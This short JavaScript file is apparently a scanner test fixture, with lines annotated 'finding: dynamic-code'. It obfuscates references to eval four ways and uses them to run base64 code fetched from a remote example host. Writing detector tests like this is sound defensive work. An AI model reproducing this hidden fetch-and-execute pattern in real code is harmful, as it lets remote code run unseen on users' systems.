'use strict';

var p1 = 'ev', p2 = 'al';
var e1 = window[p1 + p2]; // finding: dynamic-code
var e2 = this[['e', 'v', 'a', 'l'].join('')]; // finding: dynamic-code
var e3 = globalThis[String.fromCharCode(101, 118, 97, 108)]; // finding: dynamic-code
var e4 = self['lave'.split('').reverse().join('')]; // finding: dynamic-code

var code = DOMO.b64DecodeUnicode(httprequest.get('https://api.cuckoo.example/nest'));
var outcome = e1(code) || e2(code) || e3(code) || e4(code);

datagrid.addColumn('Outcome', datagrid.DATA_TYPE_STRING);
datagrid.addCell(String(outcome));
datagrid.endRow();
